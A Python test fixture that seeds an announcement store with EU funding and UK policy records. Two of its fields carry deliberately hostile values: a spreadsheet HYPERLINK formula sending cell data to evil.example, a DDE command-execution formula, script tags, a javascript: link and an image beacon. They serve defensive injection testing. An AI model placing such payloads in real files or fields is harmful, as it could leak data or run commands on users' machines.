"""A small store for the brief and spreadsheet tests: EU and UK records, a 17:00 Brussels
deadline, budgets, notes and titles that try formula, HTML and Markdown injection."""

from __future__ import annotations

from pathlib import Path

from db.store import Query, Store
from scrapers.model import Announcement

# 17:00 in Brussels (CET, winter) is 16:00 UTC: shown 16:00 in London, 17:00 in Brussels.
BRUSSELS_DEADLINE = "2027-02-18T16:00:00Z"
HOSTILE_TITLE = (
    '=HYPERLINK("https://evil.example/?x="&A1;"click") <script>alert(1)</script>'
    " **bold** [x](javascript:alert(1))"
)
HOSTILE_NOTE = "+cmd|' /C calc'!A0\n# not a heading\n<img src=https://evil.example/p.png>\n@SUM(1;2)"
SOURCES = [
    {"id": "eu-funding", "name": "EU Funding & Tenders", "kind": "feed", "url": "https://example.org/f",
     "jurisdiction": "EU", "category": "funding", "enabled": True, "config": {}},
    {"id": "govuk", "name": "GOV.UK: DSIT", "kind": "feed", "url": "https://example.org/g",
     "jurisdiction": "UK", "category": "policy", "enabled": True, "config": {}},
]  # fmt: skip


def build(path: Path) -> Path:
    with Store.open(path) as store:
        store.sync_sources(SOURCES)
        store.save_announcements(
            "eu-funding",
            [
                Announcement(
                    url="https://ec.europa.eu/info/funding/call-1",
                    title="AI Factories Antennas call",
                    summary="Funding for AI factory antennas.\n\nSecond paragraph of the summary.",
                    category="funding",
                    jurisdiction="EU",
                    published_at="2027-01-10T09:00:00Z",
                    deadline_at=BRUSSELS_DEADLINE,
                    budget_amount=12_500_000.0,
                    budget_currency="EUR",
                    programme="Digital Europe Programme",
                    action_type="DIGITAL Simple Grants",
                    opens_at="2026-11-17T00:00:00Z",
                ),
                Announcement(
                    url="https://ec.europa.eu/info/funding/call-2",
                    title=HOSTILE_TITLE,
                    summary="@SUM(A1:A9) and <b>tags</b> & entities &amp; _under_ `code`",
                    category="funding",
                    jurisdiction="EU",
                    published_at="2027-01-20T09:00:00Z",
                ),
            ],
        )
        store.save_announcements(
            "govuk",
            [
                Announcement(
                    url="https://www.gov.uk/government/news/compute-roadmap",
                    title="Compute roadmap published",
                    summary="The UK compute roadmap.",
                    category="policy",
                    jurisdiction="UK",
                    published_at="2027-01-15T12:00:00Z",
                ),
                Announcement(
                    url="https://www.gov.uk/government/news/old",
                    title="An older speech",
                    category="speech",
                    jurisdiction="UK",
                    published_at="2026-11-01T12:00:00Z",
                ),
            ],
        )
        ids = {r["title"]: r["id"] for r in store.page(Query(), 0, 10)}
        store.set_note(ids["AI Factories Antennas call"], "Ask DG CNECT about the second stage.")
        store.set_note(ids[HOSTILE_TITLE], HOSTILE_NOTE)
        store.add_tag([ids["AI Factories Antennas call"], ids["Compute roadmap published"]], "compute")
        store.add_tag([ids[HOSTILE_TITLE]], "for Friday")
    return path
